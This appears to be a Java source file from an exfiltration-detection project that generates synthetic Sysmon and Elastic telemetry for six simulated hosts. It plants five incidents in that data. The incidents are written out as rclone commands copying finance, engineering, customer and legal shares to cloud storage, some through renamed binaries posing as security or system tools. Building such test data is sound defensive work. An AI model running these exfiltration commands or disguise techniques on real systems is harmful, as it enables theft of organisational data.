package exfilwatch.simulate;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.SplittableRandom;
import java.util.TreeMap;

/**
 * The telemetry of {@code jobs/sample}: a working day of six machines with five incidents. Run its
 * main method to write the files again; a test holds the committed ones to it.
 */
public final class SampleTelemetry {
  private static final long MORNING = Instant.parse("2026-03-04T07:30:00Z").toEpochMilli();
  private static final long DAY = 10 * 3_600_000L + 1_800_000;
  private static final int ORDINARY = 1950;

  private static final Endpoint FINANCE =
      Endpoint.of("WS-FIN-07", Os.WINDOWS, "10.20.1.7", "m.keller", new DefendShape());
  private static final Endpoint WEB =
      Endpoint.of("srv-web-02", Os.LINUX, "10.20.2.2", "deploy", new DefendShape());
  private static final Endpoint FILES =
      Endpoint.of(
          "SRV-FILE-01", Os.WINDOWS, "10.20.2.1", "svc-backup", new SysmonWinlogbeatShape());
  private static final Endpoint ENGINEERING =
      Endpoint.of("WS-ENG-12", Os.WINDOWS, "10.20.1.12", "p.ortega", new SysmonWinlogbeatShape());
  private static final Endpoint APPLICATION =
      Endpoint.of("SRV-APP-05", Os.WINDOWS, "10.20.2.5", "app-admin", new SysmonEvtxShape());
  private static final Endpoint LEGAL =
      Endpoint.of(
          "WS-LAW-09",
          Os.WINDOWS,
          "10.20.1.9",
          "j.varga",
          false,
          0,
          List.of(new SysmonNxlogShape()));

  private static final List<Endpoint> HOSTS =
      List.of(FINANCE, WEB, FILES, ENGINEERING, APPLICATION, LEGAL);

  /** File name by shape. */
  private static final Map<String, String> FILE_NAMES =
      Map.of(
          "defend", "elastic-defend.ndjson",
          "sysmon-winlogbeat", "sysmon-winlogbeat.ndjson",
          "sysmon-evtx", "sysmon-evtx_dump.jsonl",
          "sysmon-nxlog", "sysmon-nxlog.ndjson");

  private final SplittableRandom random = new SplittableRandom(20260304);
  private final List<Planned> plan = new ArrayList<>();
  private final List<PlantedIncident> planted = new ArrayList<>();
  private final List<RunningProcess> lookalikes = new ArrayList<>();

  public SampleTelemetry() {
    plant(Disguise.PLAIN, FINANCE, "10:42:17", 14, plain());
    plant(Disguise.RENAMED_WITH_PE, FILES, "17:21:40", 31, renamed());
    plant(Disguise.RENAMED_WITHOUT_PE, APPLICATION, "13:05:03", 22, stripped());
    plant(Disguise.NETWORK_FIRST, ENGINEERING, "15:48:29", 6, early());
    plant(Disguise.NO_NETWORK, LEGAL, "11:16:52", 9, silent());
    LookalikeScript script = new LookalikeScript(MORNING, random.split());
    lookalikes(script, ENGINEERING, 9, 13, "cmd.exe", "xcopy.exe", "git.exe", "notepad.exe");
    lookalikes(script, ENGINEERING, 12, 11, "chrome.exe", "aws.exe", "azcopy.exe", "scp.exe");
    lookalikes(script, FILES, 8, 19, "Robocopy.exe", "BackupJob.exe", "TrendFileSecurityCheck.exe");
    lookalikes(script, FINANCE, 9, 27, "TrendFileSecurityCheck.exe", "cmd.exe");
    lookalikes(script, APPLICATION, 11, 17, "restic.exe", "BackupJob.exe");
    lookalikes(script, LEGAL, 14, 21, "Robocopy.exe", "cmd.exe");
    lookalikes(script, WEB, 8, 15, "rsync", "aws", "restic", "cp", "vim", "git", "docker");
    plan.sort(Comparator.comparingLong(p -> p.activity().time()));
  }

  /** The five incidents. */
  public List<PlantedIncident> planted() {
    return List.copyOf(planted);
  }

  /** File name → content of the telemetry, one file for each source. */
  public Map<String, byte[]> files() {
    OrdinaryActivity ordinary =
        new OrdinaryActivity(
            Fleet.of(HOSTS),
            new SplittableRandom(7),
            new TrafficMix(9, 38, 12),
            false,
            MORNING,
            DAY,
            ORDINARY);
    Recorder recorder = new Recorder(ordinary, plan, new SplittableRandom(8), 0);
    Map<String, ByteArrayOutputStream> files = new TreeMap<>();
    while (recorder.hasNext()) {
      SimulatedRecord made = recorder.next().record();
      String name = Objects.requireNonNull(FILE_NAMES.get(made.shape()), made.shape());
      ByteArrayOutputStream file = files.computeIfAbsent(name, n -> new ByteArrayOutputStream());
      file.writeBytes(made.json());
      file.write('\n');
    }
    Map<String, byte[]> bytes = new TreeMap<>();
    files.forEach((name, file) -> bytes.put(name, file.toByteArray()));
    return bytes;
  }

  /** The page that tells what is planted where. */
  public String page() {
    return SamplePage.of(planted, lookalikes);
  }

  /**
   * Writes {@code sample/} and {@code sample.md}.
   *
   * @param arguments the folder to write to, {@code jobs} when there is none
   */
  public static void main(String[] arguments) throws IOException {
    Path jobs = Path.of(arguments.length > 0 ? arguments[0] : "jobs");
    SampleTelemetry sample = new SampleTelemetry();
    Files.createDirectories(jobs.resolve("sample"));
    for (Map.Entry<String, byte[]> file : sample.files().entrySet()) {
      Files.write(jobs.resolve("sample").resolve(file.getKey()), file.getValue());
    }
    Files.writeString(jobs.resolve("sample.md"), sample.page(), StandardCharsets.UTF_8);
  }

  private void plant(
      Disguise disguise, Endpoint host, String time, int minutes, RcloneCommand command) {
    String id = "sample-" + (planted.size() + 1);
    IncidentScript script =
        new IncidentScript(id, disguise, host, command, MORNING, random.split());
    long start = Instant.parse("2026-03-04T" + time + "Z").toEpochMilli() + 137L * minutes % 1000;
    planted.add(script.play(9000L + 852L * planted.size(), start, minutes * 60_000L));
    plan.addAll(script.planned());
  }

  /** Runs them one after the other, {@code gap} minutes apart. */
  private void lookalikes(
      LookalikeScript script, Endpoint host, int hour, int gap, String... names) {
    long time = MORNING + (hour * 60L - 450) * 60_000;
    for (String name : names) {
      Routine routine =
          Routine.of(host.os(), Routine.Role.LOOKALIKE).stream()
              .filter(r -> r.name().equals(name))
              .findFirst()
              .orElseThrow();
      time += gap * 60_000L + random.nextInt(40_000);
      lookalikes.add(script.play(host, routine, time, plan));
    }
  }

  private static RcloneCommand plain() {
    String path = "C:\\Users\\m.keller\\Downloads\\rclone-v1.68.2-windows-amd64\\rclone.exe";
    return command(
        RcloneCommand.windowsProgram(path, true),
        Destination.MEGA,
        "copy",
        "\\\\files\\finance",
        "mega:fin-q4",
        "--include",
        "*.xlsx",
        "--include",
        "*.pdf",
        "--max-age",
        "2y",
        "--transfers",
        "16",
        "-P");
  }

  private static RcloneCommand renamed() {
    String secret = "EXAMPLEsecretEXAMPLEsecretEXAMPLE0001";
    String path = "C:\\ProgramData\\Trend\\TrendFileSecurityCheck.exe";
    RcloneCommand command =
        command(
            RcloneCommand.windowsProgram(path, true),
            Destination.WASABI,
            "copy",
            "D:\\Shares\\Engineering",
            Destination.WASABI.onTheFly(secret, "drop-eng", "srv-file-01"),
            "--include",
            "*.{dwg,step,sldprt}",
            "--max-size",
            "500M",
            "--transfers",
            "20");
    return new RcloneCommand(
        command.program(), command.argv(), command.destination(), "drop-eng", secret);
  }

  private static RcloneCommand stripped() {
    return command(
        RcloneCommand.windowsProgram("C:\\PerfLogs\\svhost.exe", false),
        Destination.BACKBLAZE,
        "copy",
        "C:\\inetpub\\Customer Exports",
        "arch:exports-2026/srv-app-05",
        "--config",
        "C:\\PerfLogs\\c.conf",
        "--ignore-existing",
        "--auto-confirm",
        "--multi-thread-streams",
        "12",
        "-q");
  }

  private static RcloneCommand early() {
    return command(
        RcloneCommand.windowsProgram("C:\\Users\\Public\\rclone.exe", true),
        Destination.CLOUDFLARE,
        "sync",
        "C:\\src\\designs",
        "r2:prototypes/ws-eng-12",
        "--exclude",
        "*.{mp4,iso}",
        "--bwlimit",
        "30M",
        "--no-check-certificate");
  }

  private static RcloneCommand silent() {
    return command(
        RcloneCommand.windowsProgram("C:\\ProgramData\\iclone.exe", true),
        Destination.DROPBOX,
        "copy",
        "\\\\files\\legal\\Matters 2026",
        "box7:matters",
        "--include",
        "*.docx",
        "--include",
        "*.msg",
        "--checkers",
        "30");
  }

  private static RcloneCommand command(
      Program program, Destination destination, String... arguments) {
    List<String> argv = new ArrayList<>();
    argv.add(program.path());
    argv.addAll(List.of(arguments));
    return new RcloneCommand(program, List.copyOf(argv), destination, "prototypes", null);
  }
}
